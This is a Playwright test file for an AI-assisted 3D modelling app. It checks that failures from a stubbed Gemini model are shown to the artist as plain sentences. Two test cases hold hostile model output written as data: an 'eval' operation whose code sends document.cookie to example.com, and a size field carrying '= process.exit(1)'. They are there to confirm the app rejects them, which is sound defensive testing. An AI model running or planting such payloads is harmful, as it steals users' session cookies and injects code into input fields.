import { mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { Page } from 'playwright/test';
import { AuraPage } from './AuraPage.ts';
import { test as base, errorsOf, expect } from './fixtures.ts';
import { serveWith, USAGE } from './modelServer.ts';
import type { Move, StandIn } from './standins/StandIn.ts';
import { startStandIn } from './standins/servers.ts';

/** A server before a Gemini, with less patience than usual: a model that says nothing is waited for only a moment. */
const test = base.extend<object, { gemini: StandIn; server: Awaited<ReturnType<typeof serveWith>> }>({
  gemini: [
    async ({ browserName: _any }, use) => {
      const standIn = await startStandIn('gemini');
      await use(standIn);
      await standIn.stop();
    },
    { scope: 'worker' },
  ],
  server: [
    async ({ gemini }, use) => {
      const server = await serveWith({ gemini }, { environment: { AURA_DEADLINE_MS: '16000', AURA_DAILY_LIMIT_USD: '1000' } });
      await use(server);
      await server.stop();
    },
    { scope: 'worker' },
  ],
});

/** What an artist must never be told instead of a sentence. */
const TECHNICAL = /undefined|\[object|TypeError|\bat \w+ \(|stack|ECONN|ENO[A-Z]+|<html/i;

const plan = (...operations: object[]) => JSON.stringify({ name: 'Thing', operations });
const said = (text: string): Move => ({ said: { text, usage: USAGE } });
const error = (status: number, message: string, code = ''): Move => ({ raw: { status, body: { error: { message, code, status: code } } } });

async function circuitOf(page: Page, url: string, id: string): Promise<string | undefined> {
  const { providers } = (await (await page.request.get(new URL('api/ai/status', url).href)).json()) as {
    providers: { id: string; circuit: string }[];
  };
  return providers.find((provider) => provider.id === id)?.circuit;
}

/** Each with what the artist is told: what happened and what to do. A refused key comes last: it is not tried again for a while. */
const CASES: readonly (readonly [title: string, move: Move, told: RegExp])[] = [
  ['prose', said('I would take a nice cube, and then a lid for it.'), /Gemini wrote no plan: choose another model\./],
  ['another schema', said('{"shapes":[{"type":"sphere","r":3}],"camera":{"fov":40}}'), /Gemini wrote no plan: choose another model\./],
  [
    'a refusal',
    { said: { text: '', refusal: 'No.', usage: USAGE } },
    /Gemini declined to answer this: say it in other words, or make it with the offline generator\./,
  ],
  [
    'a plan with code in it',
    said(plan({ id: 'a', op: 'eval', params: { code: 'fetch("https://example.com/"+document.cookie)' } })),
    /no operation "eval"\. Say it in other words, or choose another model\./,
  ],
  [
    'a plan with a script for a size',
    said(plan({ id: 'a', op: 'box', params: { size: ['= process.exit(1)', 20, 20] } })),
    /There is no function "process\.exit".* Say it in other words, or choose another model\./,
  ],
  [
    'a wrong key',
    error(401, 'API key not valid. Please pass a valid API key.', 'invalid_api_key'),
    /Gemini refuses the key: check it in Settings\./,
  ],
];

test('a model that fails is told of in a sentence', async ({ page, aura, gemini, server }) => {
  await test.step('where a model cannot be reached, the sentence says so, and the offline generator still answers', async () => {
    await page.getByTestId('aura-writer').selectOption('gemini');
    gemini.always = { reset: true };
    const turn = await aura.say('a cube of 20 mm');
    await expect(turn.locator('.error')).toHaveText(/Gemini does not answer at .*: check the network\./);
    await aura.picture('chat-unreachable');
    await page.getByTestId('aura-writer').selectOption('auto');
    const made = await aura.make('a cube of 20 mm');
    await expect(made.locator('.failure')).toContainText('Gemini');
    await expect(made.getByTestId('aura-by')).toHaveText('offline generator');
    // After so many failures it is left alone for a while; what comes next is to be asked of it.
    await expect.poll(() => circuitOf(page, server.url, 'gemini'), { timeout: 30_000 }).not.toBe('open');
  });

  await test.step('whatever a model does, a sentence says what to do, and scene and chat are as before', async () => {
    await aura.startAnew();
    await page.getByTestId('aura-writer').selectOption('gemini');
    const before = await aura.scene();
    for (const [title, move, told] of CASES)
      await test.step(title, async () => {
        gemini.forget();
        gemini.always = move;
        const turn = await aura.say('a cube of 20 mm with a lid');
        await expect(turn.locator('.AuraCard'), title).toHaveClass(/failed/);
        await expect(turn.locator('.error'), title).toHaveText(told);
        expect(await turn.locator('.AuraCard').textContent()).not.toMatch(TECHNICAL);
        expect(await aura.scene()).toEqual(before);
        await expect(aura.prompt).toBeEditable();
        await expect(turn.getByTestId('aura-again')).toBeVisible();
      });
    await aura.tab('history');
    await expect(aura.history.getByTestId('history-entry')).toHaveCount(0);
    await aura.picture('chat-bad-models');
  });
});

test('a key that cannot be stored is said to be none, and why', async ({ page }) => {
  const errors = errorsOf(page);
  const folder = await mkdtemp(join(tmpdir(), 'aura-blocked-'));
  const home = join(folder, 'aura');
  const blocked = await serveWith({}, { environment: { AURA_HOME: home } });
  // Where the folder of the settings would be made stands a file by now: nothing can be written there.
  await writeFile(home, '');
  try {
    const aura = new AuraPage(page);
    await aura.open(blocked.url);
    await page.keyboard.press('Control+,');
    await page.getByTestId('tab-aura-providers').click();
    await page.getByTestId('aura-provider-anthropic').locator('summary .name').click();
    await page.getByTestId('aura-key-anthropic').fill('sk-ant-0123456789');
    await page.getByTestId('aura-key-save-anthropic').click();
    await expect(page.getByTestId('aura-providers-message')).toContainText(
      /settings\.json cannot be written \(a file is where its folder should be: move it away\); what it held before is still there/,
    );
    await expect(page.getByTestId('aura-provider-anthropic')).toContainText('Needs a key');
    await aura.picture('providers-cannot-store');
    expect(errors.filter((error) => !error.includes('Failed to load resource'))).toEqual([]);
  } finally {
    await blocked.stop();
    await rm(folder, { recursive: true, force: true });
  }
});
